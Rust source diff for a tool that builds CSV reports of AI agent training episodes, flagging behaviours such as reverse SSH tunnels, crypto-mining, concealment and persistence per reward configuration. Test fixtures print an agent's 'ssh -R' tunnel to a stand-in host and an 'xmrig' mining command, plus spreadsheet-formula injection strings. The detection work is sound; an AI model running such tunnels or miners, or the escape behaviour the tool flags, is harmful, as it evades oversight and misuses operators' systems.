@@ -1,0 +1,369 @@
+//! The CSV tables of `analyze`: fixed columns, one header, times in RFC 3339 UTC, unknown cells empty. Text cells
+//! cannot become formulas; number columns stay numbers.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use polars::prelude::*;
+
+use super::escape;
+use super::jsonl::{Names, clock_of, is_tied};
+use super::when::{rfc3339, seconds, six_digits};
+use crate::correlate::{Analysis, Finding};
+use crate::evidence::Record;
+use crate::model::Behaviour;
+use crate::time::Instant;
+
+fn text<S: AsRef<str>>(name: &str, cells: impl Iterator<Item = Option<S>>) -> Column {
+    let cells: Vec<Option<String>> = cells
+        .map(|cell| cell.map(|cell| escape::csv_cell(cell.as_ref()).into_owned()).filter(|cell| !cell.is_empty()))
+        .collect();
+    Column::new(name.into(), cells)
+}
+
+fn words<S: AsRef<str>>(name: &str, cells: impl Iterator<Item = S>) -> Column {
+    text(name, cells.map(Some))
+}
+
+fn moments(name: &str, cells: impl Iterator<Item = Option<Instant>>) -> Column {
+    text(name, cells.map(|at| at.map(rfc3339)))
+}
+
+fn integers<N: TryInto<i64>>(name: &str, cells: impl Iterator<Item = Option<N>>) -> Column {
+    // Counts beyond 2^63 do not occur; one that did would be unknown rather than wrong.
+    let cells: Vec<Option<i64>> = cells.map(|cell| cell.and_then(|cell| cell.try_into().ok())).collect();
+    Column::new(name.into(), cells)
+}
+
+fn numbers(name: &str, cells: impl Iterator<Item = Option<f64>>) -> Column {
+    Column::new(name.into(), cells.map(|cell| cell.and_then(six_digits)).collect::<Vec<_>>())
+}
+
+/// Seconds to the nanosecond, as text of a plain decimal would be; six digits would not hold an epoch-sized offset.
+fn exact_seconds(name: &str, cells: impl Iterator<Item = Option<i64>>) -> Column {
+    Column::new(name.into(), cells.map(|cell| cell.map(seconds)).collect::<Vec<_>>())
+}
+
+fn render(columns: Vec<Column>) -> PolarsResult<Vec<u8>> {
+    write(DataFrame::new_infer_height(columns)?)
+}
+
+fn write(mut frame: DataFrame) -> PolarsResult<Vec<u8>> {
+    let mut bytes = Vec::new();
+    CsvWriter::new(&mut bytes).n_threads(1).finish(&mut frame)?;
+    Ok(bytes)
+}
+
+fn joined<S: AsRef<str>>(items: impl IntoIterator<Item = S>, separator: &str) -> String {
+    items.into_iter().map(|item| item.as_ref().to_owned()).collect::<Vec<_>>().join(separator)
+}
+
+/// One row per finding.
+///
+/// # Errors
+/// Only when polars cannot build the frame, which it can from columns of one length.
+pub fn findings(analysis: &Analysis) -> PolarsResult<Vec<u8>> {
+    let names = Names(&analysis.sources);
+    let kinds: BTreeMap<&str, &str> =
+        analysis.signals.iter().map(|signal| (signal.id.as_str(), signal.kind.as_str())).collect();
+    let all = || analysis.findings.iter();
+    let rival = |finding: &Finding| finding.rivals.get(1).map(|rival| (rival.hypothesis, rival.log10_lr));
+    let peers = |finding: &Finding| {
+        let named = analysis.signals.iter().filter(|signal| finding.signals.contains(&signal.id));
+        let peers: BTreeSet<String> = named
+            .flat_map(|signal| signal.flow.iter().chain(&signal.targets))
+            .filter_map(|flow| {
+                let (ip, port) = (flow.dst?, flow.dst_port);
+                Some(port.map_or_else(|| ip.to_string(), |port| std::net::SocketAddr::new(ip, port).to_string()))
+            })
+            .collect();
+        joined(peers, " ")
+    };
+    let records = |finding: &Finding| {
+        let steps = finding.steps.iter().map(|step| step.record);
+        let terms = finding.strength.terms.iter().flat_map(|term| term.records.iter().copied());
+        let unique: BTreeSet<Record> = steps.chain(terms).collect();
+        joined(
+            unique.into_iter().map(|record| names.record(record)).map(|at| format!("{} {}", at.path, at.locator)),
+            "; ",
+        )
+    };
+    render(vec![
+        words("finding", all().map(|finding| &finding.id)),
+        words("level", all().map(|finding| finding.level)),
+        words("behaviour", all().map(|finding| finding.behaviour.name())),
+        words("episode", all().map(|finding| &finding.episode)),
+        text("run", all().map(|finding| finding.run.as_ref())),
+        words("steps", all().map(|finding| joined(finding.steps.iter().map(|step| step.index.to_string()), " "))),
+        words(
+            "commands",
+            all().map(|finding| joined(finding.steps.iter().filter_map(|step| step.command.as_ref()), " ; ")),
+        ),
+        moments("first", all().map(|finding| finding.first)),
+        moments("last", all().map(|finding| finding.last)),
+        numbers("log10_lr", all().map(|finding| Some(finding.strength.log10_lr))),
+        words("strength", all().map(|finding| finding.strength.words)),
+        numbers("p_none", all().map(|finding| Some(finding.strength.p_none))),
+        numbers("p_step", all().map(|finding| Some(finding.strength.p_step))),
+        words("initiator", all().map(|finding| finding.initiator)),
+        text("best_rival", all().map(|finding| rival(finding).map(|(hypothesis, _)| hypothesis.name()))),
+        numbers("best_rival_log10_lr", all().map(|finding| rival(finding).map(|(_, log10_lr)| log10_lr))),
+        words("signals", all().map(|finding| joined(&finding.signals, " "))),
+        words(
+            "signal_kinds",
+            all().map(|finding| {
+                let seen: BTreeSet<&str> =
+                    finding.signals.iter().filter_map(|id| kinds.get(id.as_str()).copied()).collect();
+                joined(seen, " ")
+            }),
+        ),
+        words("peers", all().map(peers)),
+        words("attack", all().map(|finding| joined(&finding.attack, " "))),
+        words("summary", all().map(|finding| &finding.summary)),
+        words("would_decide", all().map(|finding| joined(&finding.would_decide, "; "))),
+        words("limits", all().map(|finding| joined(&finding.limits, "; "))),
+        words("records", all().map(records)),
+    ])
+}
+
+/// One row per episode, flagged or not.
+///
+/// # Errors
+/// As [`findings`].
+pub fn episodes(analysis: &Analysis) -> PolarsResult<Vec<u8>> {
+    let all = || analysis.episodes.iter();
+    render(vec![
+        words("episode", all().map(|episode| &episode.name)),
+        text("run", all().map(|episode| episode.run.as_ref())),
+        text("reward_config", all().map(|episode| episode.reward_config.as_ref())),
+        numbers("reward", all().map(|episode| episode.reward)),
+        text("agent", all().map(|episode| episode.agent.as_ref())),
+        text("model", all().map(|episode| episode.model.as_ref())),
+        text("host", all().map(|episode| episode.host.as_ref())),
+        words("host_basis", all().map(|episode| &episode.host_basis)),
+        words("path", all().map(|episode| &episode.path)),
+        integers("steps", all().map(|episode| Some(episode.steps))),
+        moments("first", all().map(|episode| episode.first)),
+        moments("last", all().map(|episode| episode.last)),
+        integers("flagged", all().map(|episode| Some(i64::from(!episode.findings.is_empty())))),
+        words("findings", all().map(|episode| joined(&episode.findings, " "))),
+    ])
+}
+
+/// One row per conversation and session.
+///
+/// # Errors
+/// As [`findings`].
+pub fn conversations(analysis: &Analysis) -> PolarsResult<Vec<u8>> {
+    let names = Names(&analysis.sources);
+    let all = || analysis.conversations.iter();
+    let place = |row: &crate::correlate::ConversationRow| {
+        names.record(Record { evidence: row.evidence, number: row.first_record })
+    };
+    let step = |row: &crate::correlate::ConversationRow| row.step.clone();
+    render(vec![
+        moments("first", all().map(|row| Some(row.first))),
+        moments("last", all().map(|row| Some(row.last))),
+        text("src_ip", all().map(|row| row.src.map(|ip| ip.to_string()))),
+        text("dst_ip", all().map(|row| row.dst.map(|ip| ip.to_string()))),
+        integers("dst_port", all().map(|row| row.dst_port)),
+        text("protocol", all().map(|row| row.protocol.map(|protocol| protocol.to_string()))),
+        words("domains", all().map(|row| joined(&row.domains, " "))),
+        integers("observations", all().map(|row| Some(row.observations))),
+        integers("connections", all().map(|row| Some(row.connections))),
+        integers("allowed", all().map(|row| Some(row.allowed))),
+        integers("denied", all().map(|row| Some(row.denied))),
+        integers("bytes_out", all().map(|row| row.bytes_out)),
+        integers("bytes_in", all().map(|row| row.bytes_in)),
+        integers("packets_out", all().map(|row| row.packets_out)),
+        integers("packets_in", all().map(|row| row.packets_in)),
+        words("path", all().map(|row| place(row).path)),
+        words("first_record", all().map(|row| place(row).locator)),
+        words("signals", all().map(|row| joined(&row.signals, " "))),
+        text("episode", all().map(|row| step(row).map(|(episode, _, _)| episode))),
+        integers("step", all().map(|row| step(row).map(|(_, index, _)| index))),
+        numbers("step_log10_lr", all().map(|row| step(row).map(|(_, _, log10_lr)| log10_lr))),
+    ])
+}
+
+/// One row per evidence file with the clock that holds for it.
+///
+/// # Errors
+/// As [`findings`].
+pub fn clocks(analysis: &Analysis) -> PolarsResult<Vec<u8>> {
+    let rows: Vec<_> =
+        analysis.sources.iter().enumerate().map(|(at, source)| (source, clock_of(analysis, at))).collect();
+    let clock = || rows.iter().map(|(_, clock)| *clock);
+    let tied = || rows.iter().map(|(_, clock)| clock.filter(|clock| is_tied(clock)));
+    render(vec![
+        words("path", rows.iter().map(|(source, _)| &source.path)),
+        text("clock", clock().map(|clock| clock.map(|clock| &clock.name))),
+        integers("reference", clock().map(|clock| clock.map(|clock| i64::from(clock.reference)))),
+        text("basis", clock().map(|clock| clock.map(|clock| clock.basis.name()))),
+        exact_seconds("offset_s", tied().map(|clock| clock.map(|clock| clock.offset_ns))),
+        exact_seconds("support_low_s", tied().map(|clock| clock.map(|clock| clock.support_ns.0))),
+        exact_seconds("support_high_s", tied().map(|clock| clock.map(|clock| clock.support_ns.1))),
+        numbers("zone_error_h", tied().map(|clock| clock.map(|clock| seconds(clock.zone_error_ns) / 3600.0))),
+        exact_seconds(
+            "residual_s",
+            tied().map(|clock| clock.map(|clock| clock.offset_ns.saturating_sub(clock.zone_error_ns))),
+        ),
+        text("grade", clock().map(|clock| clock.map(|clock| clock.grade.name()))),
+        integers("pairs", clock().map(|clock| clock.map(|clock| clock.pairs))),
+        integers("inliers", clock().map(|clock| clock.map(|clock| clock.inliers))),
+        exact_seconds("runner_up_s", clock().map(|clock| clock.and_then(|clock| clock.runner_up_ns))),
+        numbers(
+            "peak_ratio",
+            clock().map(|clock| clock.filter(|clock| clock.runner_up_ns.is_some()).map(|clock| clock.peak_ratio)),
+        ),
+        text("method", clock().map(|clock| clock.map(|clock| &clock.method))),
+        text("notes", clock().map(|clock| clock.map(|clock| joined(&clock.notes, "; ")))),
+        moments("first", rows.iter().map(|(source, _)| source.first)),
+        moments("last", rows.iter().map(|(source, _)| source.last)),
+    ])
+}
+
+/// Flagged episodes per run and per reward configuration, with exact 95 % intervals.
+///
+/// # Errors
+/// As [`findings`].
+pub fn rates(analysis: &Analysis) -> PolarsResult<Vec<u8>> {
+    let all = || analysis.rates.iter();
+    let share = |flagged: u32, episodes: u32| (episodes > 0).then(|| f64::from(flagged) / f64::from(episodes));
+    render(vec![
+        words("group", all().map(|rate| rate.group)),
+        words("name", all().map(|rate| &rate.name)),
+        text("behaviour", all().map(|rate| rate.behaviour.map(Behaviour::name))),
+        integers("flagged", all().map(|rate| Some(rate.flagged))),
+        integers("episodes", all().map(|rate| Some(rate.episodes))),
+        numbers("share", all().map(|rate| share(rate.flagged, rate.episodes))),
+        numbers("low", all().map(|rate| Some(rate.interval.0))),
+        numbers("high", all().map(|rate| Some(rate.interval.1))),
+    ])
+}
+
+/// Recurrence: per run and reward configuration, how many episodes, steps, flagged episodes, and episodes with a
+/// finding of each behaviour. Sorted by run, then configuration; an unknown one is null and comes first.
+///
+/// # Errors
+/// As [`findings`].
+#[expect(deprecated, reason = "the successor is the lazy engine, which brings a network client along")]
+pub fn recurrence_frame(analysis: &Analysis) -> PolarsResult<DataFrame> {
+    let mut behaviours: BTreeMap<&str, BTreeSet<Behaviour>> = BTreeMap::new();
+    for finding in &analysis.findings {
+        behaviours.entry(&finding.episode).or_default().insert(finding.behaviour);
+    }
+    let has = |episode: &str, behaviour| behaviours.get(episode).is_some_and(|seen| seen.contains(&behaviour));
+    let all = || analysis.episodes.iter();
+    let mut columns = vec![
+        text("run", all().map(|episode| episode.run.as_ref())),
+        text("reward_config", all().map(|episode| episode.reward_config.as_ref())),
+        integers("episodes", all().map(|_| Some(1))),
+        integers("steps", all().map(|episode| Some(episode.steps))),
+        integers("flagged", all().map(|episode| Some(i64::from(!episode.findings.is_empty())))),
+    ];
+    for behaviour in Behaviour::ALL {
+        columns.push(integers(behaviour.name(), all().map(|row| Some(i64::from(has(&row.name, behaviour))))));
+    }
+    let summed: Vec<PlSmallStr> = columns.iter().skip(2).map(|column| column.name().clone()).collect();
+    let frame = DataFrame::new_infer_height(columns)?;
+    let mut grouped = frame.group_by_stable(["run", "reward_config"])?.select(summed.iter().cloned()).sum()?;
+    for name in &summed {
+        grouped.rename(&format!("{name}_sum"), name.clone())?;
+    }
+    grouped.sort(["run", "reward_config"], SortMultipleOptions::default().with_maintain_order(true))
+}
+
+/// [`recurrence_frame`] as CSV.
+///
+/// # Errors
+/// As [`findings`].
+pub fn recurrence(analysis: &Analysis) -> PolarsResult<Vec<u8>> {
+    write(recurrence_frame(analysis)?)
+}
+
+/// Every table that `analyze -o` writes as CSV, by file name.
+///
+/// # Errors
+/// As [`findings`].
+pub fn all(analysis: &Analysis) -> PolarsResult<Vec<(&'static str, Vec<u8>)>> {
+    Ok(vec![
+        ("findings.csv", findings(analysis)?),
+        ("episodes.csv", episodes(analysis)?),
+        ("conversations.csv", conversations(analysis)?),
+        ("clocks.csv", clocks(analysis)?),
+        ("rates.csv", rates(analysis)?),
+        ("recurrence.csv", recurrence(analysis)?),
+    ])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::report::fixture;
+
+    fn shown(bytes: PolarsResult<Vec<u8>>) -> String {
+        String::from_utf8(bytes.unwrap()).unwrap()
+    }
+
+    #[test]
+    fn findings_table() {
+        insta::assert_snapshot!(shown(findings(&fixture::analysis())), @r#"
+        finding,level,behaviour,episode,run,steps,commands,first,last,log10_lr,strength,p_none,p_step,initiator,best_rival,best_rival_log10_lr,signals,signal_kinds,peers,attack,summary,would_decide,limits,records
+        F-0001,high,tunnel,ep-001,run-a,4,ssh -f -N -R 2222:localhost:22 jump.example -p 443,2026-11-20T14:14:16.000000000Z,2026-11-20T14:15:01.000000000Z,6.0,very strong,1e-6,0.999999,agent,external-compromise,-3.1,S-0001,ssh-reverse,203.0.113.66:443,T1572,"ssh -R … jump.example:443 → 203.0.113.66:443: SSH, remote forward asked for",the host's auth log,capture covers 60 % of the episode,capture.pcap packet 88; transcripts/ep-001.jsonl line 11
+        F-0002,high,mining,ep-001,run-a,5,'=xmrig -o pool\u{202e}.example:3333\x1b[2J,2026-11-20T14:14:16.000000000Z,2026-11-20T14:15:01.000000000Z,6.0,very strong,1e-6,0.999999,agent,external-compromise,-3.1,S-0002,monero-login,198.51.100.23:3333,T1496.001,"… -o pool.example:3333 → Monero login, 9 shares, 45 s",the host's auth log,capture covers 60 % of the episode,capture.pcap packet 88; transcripts/ep-001.jsonl line 11; transcripts/ep-001.jsonl line 14
+        "#);
+    }
+
+    #[test]
+    fn clocks_table() {
+        insta::assert_snapshot!(shown(clocks(&fixture::analysis())), @r#"
+        path,clock,reference,basis,offset_s,support_low_s,support_high_s,zone_error_h,residual_s,grade,pairs,inliers,runner_up_s,peak_ratio,method,notes,first,last
+        capture.pcap,capture.pcap,1,explicit-offset,0.0,0.0,0.0,0.0,0.0,A,0,0,,,reference,,2026-11-20T14:13:46.000000000Z,2026-11-20T14:15:26.000000000Z
+        firewall.log,firewall.log,0,assumed-year,-0.6,-0.9,-0.2,0.0,-0.6,B,9,8,28799.4,0.125,keyed interval voting on address+port,year 2026 from the capture,2026-11-20T14:13:46.000000000Z,2026-11-20T14:15:26.000000000Z
+        gpu.csv,gpu.csv,0,assumed-zone,,,,,,D,0,0,,,assumed,zone assumed UTC,2026-11-20T14:13:46.000000000Z,2026-11-20T14:15:26.000000000Z
+        transcripts/ep-001.jsonl,transcripts/,0,explicit-offset,-0.1,-0.3,0.2,0.0,-0.1,A,12,12,,,keyed interval voting on address+port,,2026-11-20T14:13:46.000000000Z,2026-11-20T14:15:26.000000000Z
+        transcripts/ep-002.jsonl,transcripts/,0,explicit-offset,-0.1,-0.3,0.2,0.0,-0.1,A,12,12,,,keyed interval voting on address+port,,2026-11-20T14:13:46.000000000Z,2026-11-20T14:15:26.000000000Z
+        "#);
+    }
+
+    #[test]
+    fn unknown_numbers_are_empty_and_negative_ones_stay_numbers() {
+        let text = shown(conversations(&fixture::analysis()));
+        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
+        let row: BTreeMap<String, String> = reader.deserialize().next().unwrap().unwrap();
+        assert_eq!((row["bytes_out"].as_str(), row["bytes_in"].as_str()), ("52000", ""));
+        assert_eq!(row["domains"], "'@SUM(A1).example");
+        let text = shown(clocks(&fixture::analysis()));
+        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<BTreeMap<String, String>> = reader.deserialize().map(Result::unwrap).collect();
+        let firewall = rows.iter().find(|row| row["path"] == "firewall.log").unwrap();
+        assert_eq!(firewall["offset_s"].parse::<f64>().unwrap(), -0.6);
+    }
+
+    #[test]
+    fn recurrence_counts_episodes_not_findings() {
+        let mut analysis = fixture::analysis();
+        let mut third = analysis.episodes[0].clone();
+        (third.name, third.run, third.reward_config) = ("ep-003".to_owned(), None, None);
+        third.findings.clear();
+        analysis.episodes.push(third);
+        let second = crate::correlate::Finding { id: "F-0003".to_owned(), ..analysis.findings[1].clone() };
+        analysis.findings.push(second);
+        insta::assert_snapshot!(shown(recurrence(&analysis)), @r#"
+        run,reward_config,episodes,steps,flagged,mining,tunnel,probing,download,concealment,privilege,persistence,egress-violation,value-transfer
+        ,,1,5,0,0,0,0,0,0,0,0,0,0
+        run-a,resource-bonus,1,5,1,1,1,0,0,0,0,0,0,0
+        run-a,task-only,1,5,0,0,0,0,0,0,0,0,0,0
+        "#);
+    }
+
+    #[test]
+    fn empty_tables_have_their_headers() {
+        for (name, bytes) in all(&Analysis::default()).unwrap() {
+            let (empty, full) = (String::from_utf8(bytes).unwrap(), all(&fixture::analysis()).unwrap());
+            let full = full.into_iter().find(|(other, _)| *other == name).unwrap().1;
+            assert_eq!(empty.lines().count(), 1, "{name}");
+            assert_eq!(empty.lines().next(), String::from_utf8(full).unwrap().lines().next(), "{name}");
+        }
+    }
+}
